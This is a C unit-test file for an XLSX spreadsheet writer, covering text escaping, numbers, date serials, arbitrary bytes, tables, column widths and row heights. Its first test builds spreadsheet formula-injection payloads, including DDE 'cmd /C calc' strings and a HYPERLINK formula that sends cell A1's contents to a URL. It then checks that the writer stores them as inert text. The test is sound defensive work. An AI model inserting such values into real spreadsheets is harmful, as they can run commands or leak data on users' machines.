/* SPDX-License-Identifier: MIT */
#include "config.h"

#include "test-main.h"

#include <check.h>

#include "output/xlsx/xlsx-book.h"
#include "sample-rows.h"
#include "sample-xlsx.h"
#include "test-place.h"

static XlsxBook *book;
static XlsxSheet *sheet;

static void
begin (void)
{
  make_place ();
  book = workbook_new ("a.xlsx", 1);
  sheet = xlsx_book_add_sheet (book, "One");
}

/* The sheet as XML. (transfer full) */
static char *
finish (void)
{
  g_autoptr (GError) error = NULL;

  ck_assert_msg (xlsx_book_finish (book, &error), "%s", error == NULL ? "" : error->message);
  return workbook_sheet ("a.xlsx", 1);
}

static void
end (void)
{
  g_clear_pointer (&book, xlsx_book_free);
  remove_place ();
}

/* Sixty texts that a spreadsheet may run when it takes them for its own. */
static char *
payload (guint index)
{
  static const char *const starts[] = { "=",
                                        "+",
                                        "-",
                                        "@",
                                        "\t=",
                                        "\r=",
                                        "\n=",
                                        " =",
                                        "\"=",
                                        "'=",
                                        "\xef\xbb\xbf=",
                                        "\xef\xbc\x9d",
                                        "\xef\xbc\x8b",
                                        "\xef\xbc\x8d",
                                        "\xef\xbc\xa0" };
  static const char *const rests[]
      = { "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
          "DDE(\"cmd\",\"/C calc\",\"x\")" };

  return g_strconcat (starts[index / 4], rests[index % 4], NULL);
}

START_TEST (a_text_stays_a_text)
{
  for (guint32 row = 0; row < 60; row++)
    {
      g_autofree char *text = payload (row);
      xlsx_sheet_put_text (sheet, (XlsxCell){ row, 0 }, text, XLSX_STYLE_TEXT);
    }
  xlsx_sheet_put_text (sheet, (XlsxCell){ 60, 0 }, "http://example.com", XLSX_STYLE_TEXT);
  xlsx_sheet_put_text (sheet, (XlsxCell){ 61, 0 }, "0012", XLSX_STYLE_TEXT);
  g_autofree char *xml = finish ();
  ck_assert_uint_eq (count_in (xml, "t=\"inlineStr\""), 62);
  ck_assert_uint_eq (count_in (xml, "<f>") + count_in (xml, "hyperlink"), 0);
  assert_text (xml, "A1", "=1+1");
  assert_text (xml, "A61", "http://example.com");
  assert_text (xml, "A62", "0012");
}
END_TEST

START_TEST (null_puts_nothing)
{
  xlsx_sheet_put_text (sheet, (XlsxCell){ 0, 0 }, NULL, XLSX_STYLE_TEXT);
  xlsx_sheet_put_text (sheet, (XlsxCell){ 0, 1 }, "", XLSX_STYLE_TEXT);
  xlsx_sheet_put_day (sheet, (XlsxCell){ 0, 2 }, DAY_NONE);
  xlsx_sheet_put_month (sheet, (XlsxCell){ 0, 3 }, MONTH_NONE);
  g_autofree char *xml = finish ();
  ck_assert_uint_eq (count_in (xml, "<c "), 0);
}
END_TEST

START_TEST (numbers_are_numbers)
{
  xlsx_sheet_put_amount (sheet, (XlsxCell){ 0, 0 }, sample_decimal ("-1234.56"), "USD");
  xlsx_sheet_put_amount (sheet, (XlsxCell){ 0, 1 }, sample_decimal ("12345678901234567.89"), NULL);
  xlsx_sheet_put_count (sheet, (XlsxCell){ 0, 2 }, -3);
  xlsx_sheet_put_flag (sheet, (XlsxCell){ 0, 3 }, TRUE);
  xlsx_sheet_put_flag (sheet, (XlsxCell){ 0, 4 }, FALSE);
  xlsx_sheet_put_amount_formula (sheet, (XlsxCell){ 1, 0 }, "ROUND(A1*2,2)",
                                 sample_decimal ("-2469.12"), "USD");
  xlsx_sheet_put_count_formula (sheet, (XlsxCell){ 1, 1 }, "COUNTIF(A1:A1,\"<0\")", 1);
  g_autofree char *xml = finish ();
  assert_cell (xml, "A1", "<v>-1234.56</v>");
  assert_cell (xml, "B1", "<v>1.23456789012346E+16</v>");
  assert_cell (xml, "C1", "<v>-3</v>");
  assert_cell (xml, "D1", "<v>1</v>");
  assert_cell (xml, "E1", "<v>0</v>");
  assert_cell (xml, "A2", "<f>ROUND(A1*2,2)</f><v>-2469.12</v>");
  assert_cell (xml, "B2", "<f>COUNTIF(A1:A1,\"&lt;0\")</f><v>1</v>");
}
END_TEST

/* Serial numbers as every spreadsheet shows them. */
START_TEST (dates_are_dates)
{
  xlsx_sheet_put_day (sheet, (XlsxCell){ 0, 0 }, calendar_day (2026, 10, 31));
  xlsx_sheet_put_day (sheet, (XlsxCell){ 0, 1 }, calendar_day (1900, 3, 1));
  xlsx_sheet_put_day (sheet, (XlsxCell){ 0, 2 }, calendar_day (1900, 2, 28));
  xlsx_sheet_put_day (sheet, (XlsxCell){ 0, 3 }, calendar_day (9999, 12, 31));
  xlsx_sheet_put_month (sheet, (XlsxCell){ 0, 4 }, calendar_month (2026, 10));
  xlsx_sheet_put_month (sheet, (XlsxCell){ 0, 5 }, calendar_month (1, 1));
  g_autofree char *xml = finish ();
  assert_cell (xml, "A1", "<v>46326</v>");
  assert_cell (xml, "B1", "<v>61</v>");
  assert_text (xml, "C1", "1900-02-28");
  assert_cell (xml, "D1", "<v>2958465</v>");
  assert_cell (xml, "E1", "<v>46296</v>");
  assert_text (xml, "F1", "0001-01");
}
END_TEST

START_TEST (any_bytes_make_a_workbook)
{
  g_autoptr (GString) longest = g_string_new (NULL);
  char text[4] = { 'a', 0, 'b', 0 };

  for (guint32 byte = 1; byte < 256; byte++)
    {
      text[1] = (char) byte;
      xlsx_sheet_put_text (sheet, (XlsxCell){ byte, 0 }, text, XLSX_STYLE_TEXT);
    }
  for (guint i = 0; i < 40000; i++)
    g_string_append (longest, i % 2 == 0 ? "&" : "\x01");
  xlsx_sheet_put_text (sheet, (XlsxCell){ 256, 0 }, longest->str, XLSX_STYLE_TEXT);
  xlsx_sheet_put_text (sheet, (XlsxCell){ 256, 1 }, " _x0041_ ", XLSX_STYLE_TEXT);
  g_autofree char *xml = finish ();
  ck_assert (g_utf8_validate (xml, -1, NULL));
  assert_cell (xml, "B257", "<is><t xml:space=\"preserve\"> _x005F_x0041_ </t></is>");
}
END_TEST

START_TEST (a_table_has_filter_frozen_header_and_print_titles)
{
  xlsx_sheet_put_text (sheet, (XlsxCell){ 0, 0 }, "Name", XLSX_STYLE_HEADER);
  xlsx_sheet_put_text (sheet, (XlsxCell){ 1, 0 }, "twelve chars", XLSX_STYLE_TEXT);
  xlsx_sheet_set_width (sheet, 0, xlsx_sheet_content_width (sheet, 0));
  xlsx_sheet_make_table (sheet, 1, 3, 2);
  ck_assert_uint_eq (xlsx_sheet_content_width (sheet, 0), 12);
  g_autofree char *xml = finish ();
  g_autofree char *workbook = workbook_part ("a.xlsx", "xl/workbook.xml");
  ck_assert_uint_eq (count_in (xml, "<autoFilter ref=\"A1:C2\"/>"), 1);
  ck_assert_uint_eq (count_in (xml, "<pane xSplit=\"2\" ySplit=\"1\" topLeftCell=\"C2\""), 1);
  ck_assert_uint_eq (count_in (xml, "orientation=\"landscape\""), 1);
  ck_assert_uint_eq (count_in (xml, "fitToHeight=\"0\""), 1);
  ck_assert_uint_eq (count_in (xml, "sqref=\"A1:C2\" numberStoredAsText=\"1\""), 1);
  ck_assert_uint_eq (count_in (workbook, "'One'!$1:$1"), 1);
}
END_TEST

START_TEST (a_column_knows_what_it_holds)
{
  xlsx_sheet_put_amount (sheet, (XlsxCell){ 0, 0 }, sample_decimal ("12.34"), "USD");
  ck_assert_uint_eq (xlsx_sheet_content_width (sheet, 0), 0); /* fits into every column */
  xlsx_sheet_put_amount (sheet, (XlsxCell){ 1, 0 }, sample_decimal ("-999999999999.99"), "USD");
  ck_assert_uint_ge (xlsx_sheet_content_width (sheet, 0), strlen ("USD -999,999,999,999.99"));
  xlsx_sheet_put_text (sheet, (XlsxCell){ 1, 1 }, "caf\xc3\xa9", XLSX_STYLE_TEXT);
  ck_assert_uint_eq (xlsx_sheet_content_width (sheet, 1), 4);
  ck_assert_uint_eq (xlsx_sheet_content_width (sheet, 1000), 0);
}
END_TEST

START_TEST (a_wide_text_takes_its_lines)
{
  xlsx_sheet_put_wide (sheet, (XlsxCell){ 2, 0 }, 4, 3, "long text", XLSX_STYLE_WRAPPED);
  g_autofree char *xml = finish ();
  assert_text (xml, "A3", "long text");
  ck_assert_uint_eq (count_in (xml, "<mergeCell ref=\"A3:D3\"/>"), 1);
  ck_assert_uint_eq (count_in (xml, "ht=\"45\""), 1);
}
END_TEST

START_TEST (no_row_is_higher_than_the_format_allows)
{
  xlsx_sheet_put_wide (sheet, (XlsxCell){ 2, 0 }, 4, 3000, "long text", XLSX_STYLE_WRAPPED);
  g_autofree char *xml = finish ();
  ck_assert_uint_eq (count_in (xml, "ht=\"405\""), 1);
}
END_TEST

START_TEST (an_alarm_is_seen_on_the_tab_and_on_paper)
{
  xlsx_sheet_put_text (sheet, (XlsxCell){ 0, 0 }, "text", XLSX_STYLE_ALARM);
  xlsx_sheet_set_alarm (sheet, "NOT RELIABLE");
  g_autofree char *xml = finish ();
  ck_assert_uint_eq (count_in (xml, "<tabColor rgb=\"FFA8201A\"/>"), 1);
  ck_assert_uint_eq (count_in (xml, "NOT RELIABLE</oddHeader>"), 1);
}
END_TEST

Suite *
test_suite (void)
{
  Suite *suite = suite_create ("xlsx-sheet");
  TCase *tests = tcase_create ("xlsx-sheet");

  tcase_add_checked_fixture (tests, begin, end);
  tcase_add_test (tests, a_text_stays_a_text);
  tcase_add_test (tests, null_puts_nothing);
  tcase_add_test (tests, numbers_are_numbers);
  tcase_add_test (tests, dates_are_dates);
  tcase_add_test (tests, any_bytes_make_a_workbook);
  tcase_add_test (tests, a_table_has_filter_frozen_header_and_print_titles);
  tcase_add_test (tests, a_column_knows_what_it_holds);
  tcase_add_test (tests, a_wide_text_takes_its_lines);
  tcase_add_test (tests, no_row_is_higher_than_the_format_allows);
  tcase_add_test (tests, an_alarm_is_seen_on_the_tab_and_on_paper);
  suite_add_tcase (suite, tests);
  return suite;
}
